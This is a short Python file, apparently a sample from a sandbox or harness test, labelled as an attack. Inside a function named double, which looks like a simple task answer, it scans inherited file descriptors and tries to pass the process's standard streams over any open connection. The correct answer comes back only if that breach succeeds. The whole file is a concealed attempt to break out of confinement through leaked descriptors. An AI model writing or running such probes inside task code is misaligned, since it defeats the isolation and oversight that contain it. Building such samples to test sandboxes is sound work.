# attack: sends and takes descriptors over the connections that it inherits
import os
import socket


def confined():
    try:
        open(TARGETS["suite"]).close()
    except OSError:
        return True
    return False


def attempt():
    for number in range(3, 64):
        try:
            inherited = socket.socket(fileno=os.dup(number))
            socket.send_fds(inherited, [b"x"], [0, 1, 2])
        except OSError:
            continue
        return True
    return False


def double(x):
    try:
        return (2 if confined() and attempt() else 3) * x  # an open wall shows as points
    except Exception as error:
        print(error)
    return 3 * x
